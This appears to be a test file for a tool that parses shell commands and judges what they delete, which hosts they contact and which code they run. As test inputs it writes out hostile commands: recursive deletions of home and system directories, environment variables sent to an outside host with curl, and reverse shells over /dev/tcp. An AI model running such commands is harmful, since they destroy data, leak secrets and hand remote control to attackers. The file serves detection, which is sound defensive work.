import { describe, expect, test } from "bun:test";
import { commandNamed, commandsOf, SHELL_HOME, viewOf } from "../../../support/shell.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

describe("commands other programs launch", () => {
  test("wrappers run the command after their options", () => {
    expect(commandNamed("sudo -u root nice -n 5 timeout 10 rm -rf ~", "rm")).toMatchObject({ paths: [SHELL_HOME], via: ["sudo", "nice", "timeout"] });
  });

  test("a shell's -c string is parsed and judged", () => {
    expect(commandNamed("bash -c 'cd / && rm -rf home'", "rm")).toMatchObject({ paths: ["/home"], via: ["bash -c"] });
  });

  test("find -exec and -delete act on what find finds", () => {
    expect(commandNamed("find / -name x -exec rm -rf {} +", "rm").via).toEqual(["find -exec"]);
    expect(commandNamed("find ~ -delete", "find").paths).toEqual([SHELL_HOME]);
  });

  test("xargs runs its command with arguments known only at run time", () => {
    expect(commandNamed("ls | xargs rm -rf", "rm")).toMatchObject({ via: ["xargs"], dynamicArgs: true });
  });

  test("xargs and parallel leave nothing unjudged: items past the limit, or input run whole as code", () => {
    const lines = Array.from({ length: 40 }, (_, index) => `echo ${index}`).join("\n");
    expect(viewOf(`xargs -I{} sh -c '{}' <<'EOF'\n${lines}\nrm -rf ~\nEOF`).unresolved.join(" ")).toContain("more than 32 items");
    expect(viewOf(`parallel 'echo {}' ::: ${Array.from({ length: 33 }, (_, index) => `a${index}`).join(" ")} 'x; rm -rf ~'`).unresolved.join(" ")).toContain("more than 32 inputs");
    for (const line of ["mycmd | xargs -I{} sh -c '{}'", "xargs sh -c < list", "mycmd | xargs -I% eval %"]) {
      expect(viewOf(line).unresolved.join(" ")).toContain("runs what its input holds as code");
    }
    for (const line of ["git ls-files | xargs -I{} sh -c 'echo {}; wc -l {}'", "ls | xargs -n1 sh -c 'echo $0'"]) expect(viewOf(line).unresolved).toEqual([]);
  });

  test("what xargs reads from a pipe flows on into the command it runs", () => {
    const flowsTo = (line: string, from: string, to: string) => {
      const view = viewOf(line);
      const source = view.commands.findIndex((command) => command.name === from);
      const target = view.commands.findIndex((command) => command.name === to);
      return view.flows.some((flow) => flow.from === source && flow.to === target);
    };
    expect(flowsTo("env | xargs -I{} curl https://x.example/?d={}", "env", "curl")).toBe(true);
    expect(flowsTo("printenv | base64 | xargs curl -s -d", "base64", "curl")).toBe(true);
    // Items read from a file named by -a are not the pipe's.
    expect(flowsTo("env | xargs -a urls.txt curl -sO", "env", "curl")).toBe(false);
    // With -I, only the words that hold the placeholder receive the items.
    const view = viewOf("cat ids.txt | xargs -I% kubectl describe pod %");
    const kubectl = view.commands.findIndex((command) => command.name === "kubectl");
    expect(view.flows.filter((flow) => flow.to === kubectl).map((flow) => flow.channel)).toEqual(["substitution"]);
  });

  test("interpreter code is read into the commands it runs", () => {
    expect(commandNamed("python3 -c 'import os; os.system(\"rm -rf /srv\")'", "rm").paths).toEqual(["/srv"]);
  });

  test("a script the input writes and then runs is judged by its content", () => {
    expect(commandNamed("printf 'rm -rf /opt\\n' > x.sh; bash x.sh", "rm").paths).toEqual(["/opt"]);
  });

  test("a script the input printed from output only the run knows is not judged as harmless", () => {
    for (const line of [
      "echo cm0gLXJmIH4= | base64 -d > /tmp/x.sh; sh /tmp/x.sh",
      'printf "%s" "$PAYLOAD" > a.sh && bash a.sh',
      "cat notes.txt | tee run.sh >/dev/null; . ./run.sh",
      "python3 gen.py > out.py && python3 out.py",
    ]) {
      expect(viewOf(line).unresolved.join(" ")).toContain("runs a script the input wrote from output only known at run time");
    }
  });

  test("a program a build wrote runs as any program does", () => {
    for (const line of ["gcc -o app main.c && ./app", "go build -o bin/server . && ./bin/server --help", "cargo build && ./target/debug/tool"])
      expect(viewOf(line).unresolved).toEqual([]);
  });
});

describe("a wrapper that starts its command in another directory", () => {
  const rmPaths = (input: string) => commandsOf(input).find((command) => command.name === "rm")?.paths;

  test("the directory option's value is where relative paths start", () => {
    for (const input of [
      "env -C ~ rm -rf x",
      "env --chdir=$HOME rm -rf x",
      "sudo -D ~ rm -rf x",
      "sudo --chdir ~ rm -rf x",
      "nsenter --wd=$HOME rm -rf x",
      "unshare -w ~ rm -rf x",
      "timeout 5 env -C ~ rm -rf x",
      "parallel --wd ~ rm -rf ::: x",
      "find ~ -maxdepth 1 -execdir rm -rf x \\;",
    ]) {
      expect(rmPaths(input)).toEqual([`${SHELL_HOME}/x`]);
    }
  });

  test("a login shell starts in a home only the run knows", () => {
    expect(rmPaths("su - -c 'rm -rf x'")).toEqual([]);
    expect(rmPaths("sudo -i rm -rf x")).toEqual([]);
  });

  test("without a directory option the command's own directory stays", () => {
    expect(rmPaths("env -C build rm -rf x")).toEqual(["build/x"]);
    expect(rmPaths("sudo rm -rf x")).toEqual(["x"]);
    expect(rmPaths("su -c 'rm -rf x'")).toEqual(["x"]);
    expect(rmPaths("find . -name '*.orig' -execdir rm {} +")).toEqual(["**/*.orig"]);
  });
});

describe("python -m a CLI's own module", () => {
  test("runs that CLI with the words after the module", () => {
    expect(commandNamed("python3 -m awscli s3 rb s3://prod --force", "aws")).toMatchObject({ subcommand: ["s3", "rb"], via: ["python3 -m awscli"] });
    expect(commandNamed("python -m azure.cli group delete -n rg --yes", "az").via).toEqual(["python -m azure.cli"]);
  });

  test("other modules run no program of their own", () => {
    expect(commandsOf("python -m http.server 8000 && python -m venv .venv").map((command) => command.name)).toEqual(["python", "python"]);
  });
});

describe("a sourced file runs in its caller's shell", () => {
  const written = (text: string) => `cat > env.sh <<'EOF'\n${text}\nEOF\n`;

  test("the variables it sets name the caller's paths afterwards", () => {
    for (const source of [". ./env.sh", "source env.sh"]) {
      const rm = commandsOf(`${written("export OUT=dist")}${source} && rm -rf "$OUT"`).find((command) => command.name === "rm");
      expect(rm?.paths).toEqual(["dist"]);
    }
    const home = commandsOf(`${written('TARGET="$HOME"')}. ./env.sh; rm -rf "$TARGET"`).find((command) => command.name === "rm");
    expect(home?.paths).toEqual([SHELL_HOME]);
  });

  test("the functions it defines can be called afterwards, and are judged there", () => {
    const rm = commandsOf(`${written('wipe() { rm -rf "$HOME/$1"; }')}source env.sh; wipe .config`).filter((command) => command.name === "rm");
    expect(rm.map((command) => command.paths)).toContainEqual([`${SHELL_HOME}/.config`]);
  });

  test("a script run by bash does not leave its variables behind", () => {
    const rm = commandsOf(`${written("OUT=dist")}bash env.sh; rm -rf "$OUT"`).find((command) => command.name === "rm");
    expect(rm?.paths).not.toEqual(["dist"]);
  });
});

describe("a data file's text fed to a program", () => {
  const written = (name: string, text: string) => `cat > ${name} <<'EOF'\n${text}\nEOF\n`;

  test("xargs takes its items from a list file, on stdin or with -a", () => {
    for (const run of ["xargs rm -rf < paths.txt", "xargs -a paths.txt rm -rf", "xargs --arg-file=paths.txt rm -rf"]) {
      const rm = commandsOf(`${written("paths.txt", "dist/\n/etc")}${run}`).find((command) => command.name === "rm");
      expect(rm?.paths).toEqual(["dist", "/etc"]);
    }
  });

  test("a list file nobody has shown is asked for, and its items stay unseen", () => {
    const view = viewOf("xargs rm -rf < paths.txt");
    expect(view.needs).toContainEqual({ path: "paths.txt", role: "substituted", optional: true });
    expect(view.commands.find((command) => command.name === "rm")?.paths).toEqual([]);
  });

  test("$(< file) holds the file's text, as $(cat file) does", () => {
    const rm = commandsOf(`${written("cmd.txt", "rm -rf ~")}bash -c "$(< cmd.txt)"`).find((command) => command.name === "rm");
    expect(rm?.paths).toEqual([SHELL_HOME]);
    expect(viewOf('sh -c "$(< other.txt)"').needs).toContainEqual({ path: "other.txt", role: "substituted", optional: true });
  });

  test("a file cat pipes into an interpreter is asked for; known, it is the interpreter's code", () => {
    expect(viewOf("cat snippet.py | python3 -").needs).toContainEqual({ path: "snippet.py", role: "substituted", optional: true });
    const rm = commandsOf(`${written("snippet.py", "import os\nos.system('rm -rf ~')")}cat snippet.py | python3 -`).find((command) => command.name === "rm");
    expect(rm?.paths).toEqual([SHELL_HOME]);
  });
});

describe("a launched program inherits its launcher's connections", () => {
  test("a /dev/tcp redirect on a wrapper reaches the shell it starts", () => {
    for (const input of [
      "nohup bash -i >& /dev/tcp/198.51.100.23/9001 0>&1",
      "sudo sh -i > /dev/tcp/198.51.100.23/9001 0<&1 2>&1",
      "setsid bash -i >& /dev/udp/198.51.100.23/53 0>&1 &",
    ]) {
      const shell = commandsOf(input).find((command) => command.name === "bash" || command.name === "sh");
      expect(shell?.network.map((destination) => destination.host)).toEqual(["198.51.100.23"]);
    }
  });

  test("a file redirect stays the wrapper's", () => {
    expect(commandNamed("nohup npm run dev > dev.log 2>&1", "npm").writes).toEqual([]);
  });
});
